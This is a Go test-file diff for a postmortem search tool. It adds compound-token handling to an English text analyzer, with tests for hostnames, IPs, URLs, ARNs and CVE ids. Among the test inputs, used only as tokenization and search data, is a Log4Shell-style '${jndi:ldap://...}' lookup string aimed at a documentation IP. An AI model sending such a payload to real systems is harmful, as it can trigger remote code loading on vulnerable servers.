@@ -32,10 +32,16 @@ func bleveEnglish(t testing.TB) analysis.Analyzer {
 }
 
 // sameTokens reports the first difference between bleve's tokens of text
-// and English's, or "".
+// and English's words (its tokens but the compound ones, see
+// TestCompounds), or "".
 func sameTokens(want analysis.Analyzer, e *English, text string) string {
 	w := want.Analyze([]byte(text))
-	g := e.Analyze([]byte(text))
+	var g analysis.TokenStream
+	for _, t := range e.Analyze([]byte(text)) {
+		if t.Type != analysis.Shingle {
+			g = append(g, t)
+		}
+	}
 	for i := 0; i < len(w) || i < len(g); i++ {
 		if i >= len(w) || i >= len(g) {
 			return fmt.Sprintf("%d tokens, want %d (first extra: %v)", len(g), len(w), extra(w, g, i))
@@ -150,7 +156,7 @@ func TestAnalyzeHelpers(t *testing.T) {
 	if err != nil {
 		t.Fatal(err)
 	}
-	text := "The certificates' renewal failed; the team's on-call engineer wasn't paged."
+	text := "The certificates' renewal failed; the team's night engineer wasn't paged."
 	toks := Analyze(e, text)
 	viaBleve := Analyze(bleveEnglish(t), text)
 	if fmt.Sprint(toks) != fmt.Sprint(viaBleve) {
@@ -278,8 +284,26 @@ func TestMappingUsesEnglish(t *testing.T) {
 	}
 }
 
+// wordsOnly is the name of English without compound tokens, registered
+// for TestIndexTermsUnchanged.
+const wordsOnly = "hindsight_en_words_test"
+
+func init() {
+	err := registry.RegisterAnalyzer(wordsOnly, func(map[string]any, *registry.Cache) (analysis.Analyzer, error) {
+		e, err := NewEnglish()
+		if err == nil {
+			e.words = true
+		}
+		return e, err
+	})
+	if err != nil {
+		panic(err)
+	}
+}
+
 // TestIndexTermsUnchanged indexes the same documents with the mapping's
-// text fields analysed by bleve's "en" and by English, and compares every
+// text fields analysed by bleve's "en" and by English without its
+// compound tokens (whose words sameTokens compares), and compares every
 // term of title, body and keywords: document frequency, and for each
 // document its frequency, norm and term vectors (positions, offsets).
 func TestIndexTermsUnchanged(t *testing.T) {
@@ -319,7 +343,7 @@ func TestIndexTermsUnchanged(t *testing.T) {
 		t.Cleanup(func() { r.Close() })
 		return r
 	}
-	want, got := build(en.AnalyzerName), build(EnglishName)
+	want, got := build(en.AnalyzerName), build(wordsOnly)
 	dump := func(r index.IndexReader, field string) map[string]string {
 		out := map[string]string{}
 		d, err := r.FieldDict(field)
@@ -393,4 +417,144 @@ func addTricky(f *testing.F) {
 			f.Add(s)
 		}
 	}
+}
+
+// compoundCases are texts with identifiers and the compound tokens
+// (term@position) English must add to their words.
+var compoundCases = []struct {
+	text string
+	want string // the compound tokens, "term@pos" separated by spaces
+}{
+	{"plain words only", ""},
+	{"host status.acme.com.", "acme.com@2 statu@2 acm@2 com@2"},
+	{"mail oncall@example.org now", "oncall@example.org@2 exampl@3 org@3"},
+	{"url https://partner-api.acme.com/v1/orders?x", "https://partner-api.acme.com/v1/orders@2 partner-api.acme.com@3 partner-api@3 acme.com@4 acm@4 com@4 api@4"},
+	{"ip 198.51.100.23 and 10.0.0.0/8", "198@2 51@2 100@2 23@2 10.0.0.0/8@4 10@4 0@4"},
+	{"v6 2001:db8::1", "2001:db8::1@2 2001:db8@2 db8::1@3"},
+	{"db-1.internal:5432", "db-1.internal:5432@1 db-1.internal@1 db-1@1"},
+	{"probe ${jndi:ldap://198.51.100.23:1389/a}", "jndi:ldap://198.51.100.23:1389/a@2 jndi@2 ldap@2 198.51.100.23:1389@3 198@3 51@3 100@3 23@3"},
+	{"denied s3:GetObject", "s3:getobject@2 get@3 object@3"},
+	{"arn:aws:s3:GetObject", "arn:aws:s3:getobject@1 arn@1 arn:aws@1 aw@1 aws:s3@1 s3@1 s3:getobject@1 get@2 object@2"},
+	{"path /var/log/nginx/access.log", "var/log/nginx/access.log@2 access@5 log@5"},
+	{"CVE-2021-44228 SEC-1030 T1566.001", "cve-2021-44228@1 sec-1030@4 t1566@6 001@6"},
+	{"snake_case kebab-case XMLHttpRequest", "snake_case@1 snake@1 case@1 kebab-case@2 xml@4 http@4 request@4"},
+	{"sha256:9f86d081884c7d65", "sha256:9f86d081884c7d65@1"},
+	{"the-end", "the-end@1"},
+}
+
+// TestCompounds checks the compound tokens of each kind of identifier:
+// the whole, its pieces and its parts, at the position of the word each
+// starts in; the words are bleve's (sameTokens).
+func TestCompounds(t *testing.T) {
+	e := mustEnglish(t)
+	want := bleveEnglish(t)
+	for _, c := range compoundCases {
+		var got []string
+		prev := 0
+		for _, tk := range e.Analyze([]byte(c.text)) {
+			if tk.Position < prev {
+				t.Errorf("%q: positions go back at %q", c.text, tk.Term)
+			}
+			prev = tk.Position
+			if tk.Type == analysis.Shingle {
+				got = append(got, fmt.Sprintf("%s@%d", tk.Term, tk.Position))
+			}
+		}
+		if g := strings.Join(got, " "); g != c.want {
+			t.Errorf("%q:\n got %s\nwant %s", c.text, g, c.want)
+		}
+		if d := sameTokens(want, e, c.text); d != "" {
+			t.Errorf("%q: words: %s", c.text, d)
+		}
+	}
+}
+
+// FuzzCompounds checks that compound tokens keep positions in order,
+// offsets inside the text and on the compound's bytes, and terms in lower
+// case, not empty, and never repeated at one position.
+func FuzzCompounds(f *testing.F) {
+	addTricky(f)
+	for _, c := range compoundCases {
+		f.Add(c.text)
+	}
+	e := mustEnglish(f)
+	f.Fuzz(func(t *testing.T, text string) {
+		prev := 0
+		seen := map[string]bool{}
+		for _, tk := range e.Analyze([]byte(text)) {
+			if tk.Position < prev || tk.Start < 0 || tk.End > len(text) || tk.Start >= tk.End || len(tk.Term) == 0 {
+				t.Fatalf("%q: bad token %v", text, tk)
+			}
+			if tk.Position != prev {
+				clear(seen)
+			}
+			prev = tk.Position
+			if seen[string(tk.Term)] {
+				t.Fatalf("%q: %q twice at %d", text, tk.Term, tk.Position)
+			}
+			seen[string(tk.Term)] = true
+			if tk.Type == analysis.Shingle && strings.ToLower(string(tk.Term)) != string(tk.Term) {
+				t.Fatalf("%q: compound %q not in lower case", text, tk.Term)
+			}
+		}
+	})
+}
+
+// TestIdentifierQueries searches the sample KB (and, for a pasted exploit
+// string, the realworld test KB) for identifiers, their parts and ids.
+func TestIdentifierQueries(t *testing.T) {
+	for _, kbCase := range []struct {
+		root  string
+		cases []struct{ q, want string }
+	}{
+		{filepath.Join("..", "content"), identifierQueries},
+		{filepath.Join("..", "site", "testdata", "realworld"), realworldIdentifierQueries},
+	} {
+		if _, err := os.Stat(filepath.Join(kbCase.root, "postmortems")); err != nil {
+			if _, err := os.Stat(filepath.Join(kbCase.root, "content", "postmortems")); err != nil {
+				t.Logf("%s: no KB", kbCase.root)
+				continue
+			}
+		}
+		root := kbCase.root
+		if filepath.Base(root) == "content" {
+			root = filepath.Dir(root)
+		}
+		k := loadKB(t, root)
+		ix := memIndex(t, Docs(k.Postmortems, DocOptionsFor(k.Config, false, true)))
+		for _, c := range kbCase.cases {
+			res, err := ix.Search(context.Background(), c.q, SearchOptions{Limit: 100})
+			if err != nil {
+				t.Fatalf("%q: %v", c.q, err)
+			}
+			if got := strings.Join(ids(res), " "); got != c.want {
+				t.Errorf("%s: %q:\n got %s\nwant %s", root, c.q, got, c.want)
+			}
+		}
+	}
+}
+
+// identifierQueries are run on the sample KB with the ids they must
+// return; realworldIdentifierQueries on site/testdata/realworld.
+var identifierQueries = []struct{ q, want string }{
+	{"jndi", ""}, // only in the realworld KB
+	{"acme", "2023-01-17-ransomware-finance-laptop 2023-03-08-dns-zone-push-dropped-mx 2023-05-02-edge-cert-expiry 2023-09-12-aws-key-in-public-repo 2024-01-23-phishing-support-account-takeover 2024-03-14-public-s3-customer-exports 2024-09-03-ssrf-image-proxy-metadata 2025-03-14-edge-cert-expiry-partner-api 2025-07-09-aws-key-in-sdk-examples 2025-09-16-status-page-dns-delegation 2025-10-30-ci-runner-cryptominer 2026-08-11-edge-tls-handshake-saturation"},
+	{"acme.com", "2023-03-08-dns-zone-push-dropped-mx 2023-05-02-edge-cert-expiry 2025-03-14-edge-cert-expiry-partner-api 2025-09-16-status-page-dns-delegation"},
+	{"status.acme.com", "2025-09-16-status-page-dns-delegation"},
+	{"s3:GetObject", s3Ids},
+	{"GetObject", s3Ids},
+	{"getobject", s3Ids},
+	{"2025-09-16-status-page-dns-delegation", "2025-09-16-status-page-dns-delegation"},
+	{"partner-api", "2025-03-14-edge-cert-expiry-partner-api"},
+	{"AcmeApp", "2026-08-11-edge-tls-handshake-saturation"},
+}
+
+const s3Ids = "2024-03-14-public-s3-customer-exports 2024-09-03-ssrf-image-proxy-metadata"
+
+var realworldIdentifierQueries = []struct{ q, want string }{
+	{"jndi", "2021-12-10-log4j-exposure"},
+	{"198.51.100.23", "2021-12-10-log4j-exposure"},
+	{`"jndi:ldap"`, "2021-12-10-log4j-exposure"},
+	{"ldap", "2021-12-10-log4j-exposure"},
+	{"2021-12-10-log4j-exposure", "2021-12-10-log4j-exposure"},
 }
